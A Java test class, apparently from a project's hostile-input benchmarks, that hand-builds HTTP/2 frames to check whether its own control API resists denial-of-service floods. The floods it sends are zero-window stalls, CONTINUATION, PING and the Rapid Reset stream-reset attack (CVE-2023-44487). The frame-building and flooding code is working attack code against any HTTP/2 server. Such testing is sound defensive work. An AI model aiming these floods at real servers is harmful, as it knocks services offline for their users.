package touchline.benchmarks.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Attacks on the control API by HTTP/2 frames (RFC 9113). Any thread. */
final class Http2Attacks {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 0x1;
    private static final int END_HEADERS = 0x4;

    /** Frames that the server must not take. */
    private static final int FLOOD = 100_000;

    private final URI api;

    Http2Attacks(URI api) {
        this.api = api;
    }

    List<Attack> all() {
        return List.of(
                Attack.of("HTTP/2 window 0", 11, 100, _ -> windowZero()),
                Attack.of("CONTINUATION flood", 1, 500, _ -> continuations()),
                Attack.of("ping flood", 1, 500, _ -> pings()),
                Attack.of("reset flood", 1, 500, _ -> resets()));
    }

    private Connection connect() throws IOException {
        Connection connection = Connection.tls(api, "h2");
        connection.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        return connection;
    }

    /** A hundred large replies, of which the client takes no byte. */
    private String windowZero() throws IOException {
        try (Connection connection = connect()) {
            ByteArrayOutputStream sent = new ByteArrayOutputStream();
            // SETTINGS_INITIAL_WINDOW_SIZE 0
            sent.writeBytes(frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 0}));
            for (int stream = 1; stream < 200; stream += 2) {
                sent.writeBytes(frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/openapi")));
            }
            connection.send(sent.toByteArray());
            return connection.awaitEnd();
        }
    }

    private String continuations() throws IOException {
        try (Connection connection = connect()) {
            connection.send(frame(SETTINGS, 0, 0, new byte[0]));
            connection.send(frame(HEADERS, END_STREAM, 1, get("/openapi")));
            return flood(connection, frame(CONTINUATION, 0, 1, new byte[0]));
        }
    }

    private String pings() throws IOException {
        try (Connection connection = connect()) {
            connection.send(frame(SETTINGS, 0, 0, new byte[0]));
            return flood(connection, frame(PING, 0, 0, new byte[8]));
        }
    }

    /** Opens streams and resets them at once (CVE-2023-44487). */
    private String resets() throws IOException {
        try (Connection connection = connect()) {
            connection.send(frame(SETTINGS, 0, 0, new byte[0]));
            int sent = 0;
            try {
                for (int stream = 1; sent < FLOOD && connection.drain(); stream += 200) {
                    ByteArrayOutputStream many = new ByteArrayOutputStream();
                    for (int each = stream; each < stream + 200; each += 2) {
                        int flags = END_STREAM | END_HEADERS;
                        many.writeBytes(frame(HEADERS, flags, each, get("/openapi")));
                        many.writeBytes(frame(RST_STREAM, 0, each, new byte[] {0, 0, 0, 8}));
                    }
                    connection.send(many.toByteArray());
                    sent += 100;
                }
            } catch (IOException _) {
                return "closed";
            }
            return sent < FLOOD ? "closed" : "never closed";
        }
    }

    private static String flood(Connection connection, byte[] frame) throws IOException {
        byte[] many = ByteBuffer.allocate(frame.length * 100).array();
        for (int i = 0; i < 100; i++) {
            System.arraycopy(frame, 0, many, i * frame.length, frame.length);
        }
        try {
            for (int sent = 0; sent < FLOOD; sent += 100) {
                if (!connection.drain()) {
                    return "closed";
                }
                connection.send(many);
            }
        } catch (IOException _) {
            return "closed";
        }
        return "never closed";
    }

    /** A header block with names of the static table, and no Huffman coding (RFC 7541, 6). */
    private static byte[] get(String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x82);
        block.write(0x87);
        block.write(0x01);
        literal(block, "localhost");
        block.write(0x04);
        literal(block, path);
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, String value) {
        block.write(value.length());
        block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.put((byte) 0).putShort((short) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
        return frame.array();
    }
}
